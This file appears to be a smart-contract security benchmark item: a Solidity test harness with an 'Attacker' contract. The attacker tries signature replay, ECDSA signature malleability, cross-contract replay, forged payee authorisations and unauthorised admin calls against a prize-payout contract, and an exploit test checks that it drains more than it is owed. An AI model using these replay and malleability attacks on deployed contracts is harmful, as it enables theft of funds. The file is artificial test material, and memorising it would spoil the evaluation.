// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./HalyardPrizes.sol";

// assay-canary-1f18d2c1-0710-41fa-becc-32166f668ba0

interface Vm {
    function warp(uint256 time) external;
    function prank(address who) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Pennant is IClubToken {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    mapping(address => uint256) public override balanceOf;

    constructor() {
        balanceOf[msg.sender] = 10_000 ether;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// The helm of a boat that has won once, at this club and at another one, with every paper that was ever public.
contract Attacker {
    uint256 internal constant N = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;

    HalyardPrizes internal club;
    HalyardPrizes.Prize internal prize;
    HalyardPrizes.Prize internal elsewhere;
    bytes[] internal papers;
    bytes[] internal papersElsewhere;
    bytes internal oldPaper;
    address internal other;
    HalyardPrizes.Prize internal others;
    bytes[] internal othersPapers;

    constructor(HalyardPrizes club_) {
        club = club_;
    }

    function give(HalyardPrizes.Prize memory p, bytes[] memory s, HalyardPrizes.Prize memory q, bytes[] memory t) external {
        prize = p;
        elsewhere = q;
        for (uint256 i = 0; i < 2; ++i) {
            papers.push(s[i]);
            papersElsewhere.push(t[i]);
        }
    }

    function giveOthers(address helm, bytes memory paper, HalyardPrizes.Prize memory p, bytes[] memory s) external {
        other = helm;
        oldPaper = paper;
        others = p;
        for (uint256 i = 0; i < 2; ++i) othersPapers.push(s[i]);
    }

    function _try(bytes memory data) internal returns (bool ok) {
        (ok, ) = address(club).call(data);
    }

    /// The other signature that is as good: s from the other side of the order.
    function _mirror(bytes memory signature) internal pure returns (bytes memory) {
        bytes32 r;
        bytes32 s;
        uint8 v;
        assembly {
            r := mload(add(signature, 32))
            s := mload(add(signature, 64))
            v := byte(0, mload(add(signature, 96)))
        }
        return abi.encodePacked(r, bytes32(N - uint256(s)), v == 27 ? uint8(28) : uint8(27));
    }

    function run() external {
        HalyardPrizes.Prize memory p = prize;
        bytes[] memory s = papers;
        // the same paper, several times and in its other form
        for (uint256 i = 0; i < 4; ++i) _try(abi.encodeCall(club.pay, (p, s)));
        s[0] = _mirror(s[0]);
        s[1] = _mirror(s[1]);
        _try(abi.encodeCall(club.pay, (p, s)));
        // another amount, race and term under the same signatures
        p.amount *= 10;
        _try(abi.encodeCall(club.pay, (p, papers)));
        p = prize;
        p.race += 1;
        _try(abi.encodeCall(club.pay, (p, papers)));
        p = prize;
        p.deadline += 365 days;
        _try(abi.encodeCall(club.pay, (p, papers)));
        // of another club with the same stewards
        _try(abi.encodeCall(club.pay, (elsewhere, papersElsewhere)));
        // one steward twice, none at all, nonsense
        p = prize;
        p.race += 2;
        s[0] = papers[0];
        s[1] = _mirror(papers[0]);
        _try(abi.encodeCall(club.pay, (p, s)));
        s[0] = new bytes(65);
        s[1] = new bytes(65);
        _try(abi.encodeCall(club.pay, (p, s)));
        _try(abi.encodeCall(club.pay, (p, new bytes[](0))));
        // a payee of somebody who has changed their mind, and of nobody
        _try(abi.encodeCall(club.namePayeeFor, (other, address(this), type(uint256).max, oldPaper)));
        _try(abi.encodeCall(club.namePayeeFor, (other, address(this), type(uint256).max, new bytes(65))));
        _try(abi.encodeCall(club.namePayeeFor, (address(0), address(this), type(uint256).max, new bytes(65))));
        _try(abi.encodeCall(club.pay, (others, othersPapers)));
        _try(abi.encodeCall(club.takeBack, (1 ether)));
        _try(abi.encodeCall(club.setSteward, (address(this), true)));
    }

    function later() external {
        _try(abi.encodeCall(club.pay, (prize, papers)));
    }
}

contract Proof {
    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
    uint256 private constant ASTA = 0xA57A;
    uint256 private constant BIRK = 0xB1CC;
    uint256 private constant LIV = 0x11F;

    Pennant private pennant;
    HalyardPrizes private club;
    HalyardPrizes private sister;
    Attacker private lubber;

    function setUp() public {
        vm.warp(1_762_000_000);
        pennant = new Pennant();
        address[] memory stewards = new address[](2);
        (stewards[0], stewards[1]) = (vm.addr(ASTA), vm.addr(BIRK));
        club = new HalyardPrizes(pennant, stewards);
        sister = new HalyardPrizes(pennant, stewards);
        pennant.transfer(address(club), 5000 ether);
        pennant.transfer(address(sister), 100 ether);
        lubber = new Attacker(club);

        HalyardPrizes.Prize memory p = _prize(31, address(lubber), 100 ether);
        HalyardPrizes.Prize memory q = _prize(7, address(lubber), 900 ether);
        lubber.give(p, _signed(club, p), q, _signed(sister, q));

        // Liv once had her prizes sent to the lubber, and then to herself again
        address liv = vm.addr(LIV);
        bytes memory paper = _by(LIV, club.digestOfPayee(liv, address(lubber), 0, type(uint256).max));
        club.namePayeeFor(liv, address(lubber), type(uint256).max, paper);
        vm.prank(liv);
        club.namePayee(address(0));
        p = _prize(32, liv, 700 ether);
        lubber.giveOthers(liv, paper, p, _signed(club, p));
    }

    function _prize(uint256 race, address helm, uint256 amount) private view returns (HalyardPrizes.Prize memory) {
        return HalyardPrizes.Prize(race, helm, amount, block.timestamp + 30 days);
    }

    function _by(uint256 key, bytes32 digest) private returns (bytes memory) {
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(key, digest);
        return abi.encodePacked(r, s, v);
    }

    function _signed(HalyardPrizes at, HalyardPrizes.Prize memory p) private returns (bytes[] memory s) {
        bytes32 digest = at.digestOfPrize(p);
        (uint256 a, uint256 b) = vm.addr(ASTA) < vm.addr(BIRK) ? (ASTA, BIRK) : (BIRK, ASTA);
        s = new bytes[](2);
        s[0] = _by(a, digest);
        s[1] = _by(b, digest);
    }

    function test_Regular() public {
        address liv = vm.addr(LIV);
        HalyardPrizes.Prize memory p = _prize(40, liv, 50 ether);
        bytes[] memory s = _signed(club, p);
        club.pay(p, s);
        require(pennant.balanceOf(liv) == 50 ether, "paid");

        p = _prize(41, liv, 60 ether);
        s = _signed(club, p);
        (s[0], s[1]) = (s[1], s[0]);
        (bool ok, ) = address(club).call(abi.encodeCall(club.pay, (p, s)));
        require(!ok, "order");
        s[0] = s[1];
        (ok, ) = address(club).call(abi.encodeCall(club.pay, (p, s)));
        require(!ok, "twice the same");

        uint256 until = block.timestamp + 1 days;
        bytes memory paper = _by(LIV, club.digestOfPayee(liv, address(0x11), club.payeeNonce(liv), until));
        club.namePayeeFor(liv, address(0x11), until, paper);
        club.pay(p, _signed(club, p));
        require(pennant.balanceOf(address(0x11)) == 60 ether, "payee");

        p = _prize(42, liv, 60 ether);
        s = _signed(club, p);
        vm.prank(vm.addr(ASTA));
        club.strike(42, liv);
        (ok, ) = address(club).call(abi.encodeCall(club.pay, (p, s)));
        require(!ok, "struck");
        p = _prize(43, liv, 60 ether);
        s = _signed(club, p);
        vm.warp(block.timestamp + 31 days);
        (ok, ) = address(club).call(abi.encodeCall(club.pay, (p, s)));
        require(!ok, "late");
        club.setSteward(vm.addr(BIRK), false);
        p = _prize(44, liv, 60 ether);
        s = _signed(club, p);
        (ok, ) = address(club).call(abi.encodeCall(club.pay, (p, s)));
        require(!ok, "one steward left");
        club.takeBack(pennant.balanceOf(address(club)));
        require(pennant.balanceOf(address(club)) == 0, "taken back");
    }

    function token() public view returns (address) {
        return address(pennant);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Stewards strike, the commodore appoints and takes back, nobody else.
    function test_RefusesStrangers() public {
        address liv = vm.addr(LIV);
        refuses(liv, HalyardPrizes.NotAllowed.selector);
        club.setSteward(liv, true);
        refuses(liv, HalyardPrizes.NotAllowed.selector);
        club.strike(50, liv);
        refuses(liv, HalyardPrizes.NotAllowed.selector);
        club.takeBack(1);
    }

    /// A prize is settled once, for two signatures; a payee is named in time, by somebody.
    function test_RefusesPapers() public {
        address liv = vm.addr(LIV);
        address asta = vm.addr(ASTA);
        vm.prank(asta);
        club.strike(50, liv);
        refuses(asta, abi.encodeWithSelector(HalyardPrizes.AlreadySettled.selector, 50, liv));
        club.strike(50, liv);
        HalyardPrizes.Prize memory p = _prize(51, liv, 1 ether);
        bytes[] memory two = _signed(club, p);
        bytes[] memory three = new bytes[](3);
        (three[0], three[1], three[2]) = (two[0], two[1], two[1]);
        vm.expectRevert(HalyardPrizes.NotTwoStewards.selector);
        club.pay(p, three);
        uint256 until = block.timestamp - 1;
        bytes memory paper = _by(LIV, club.digestOfPayee(liv, address(0x11), club.payeeNonce(liv), until));
        vm.expectRevert(HalyardPrizes.PastDeadline.selector);
        club.namePayeeFor(liv, address(0x11), until, paper);
        vm.expectRevert(HalyardPrizes.NotSignedByHelm.selector);
        club.namePayeeFor(address(0), address(0x11), until + 1 days, new bytes(65));
        pennant.sleep(true);
        vm.expectRevert(HalyardPrizes.NotTransferred.selector);
        club.pay(p, two);
        vm.expectRevert(HalyardPrizes.NotTransferred.selector);
        club.takeBack(1);
    }

    function exploit() public {
        lubber.run();
        vm.warp(block.timestamp + 31 days);
        lubber.later();
    }

    // Of the race that was really won there are one hundred.
    function test_Exploit() public {
        uint256 before = pennant.balanceOf(address(lubber));
        exploit();
        require(pennant.balanceOf(address(lubber)) >= before + 250 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(club);
    }

    function attacker() public view returns (address) {
        return address(lubber);
    }
}
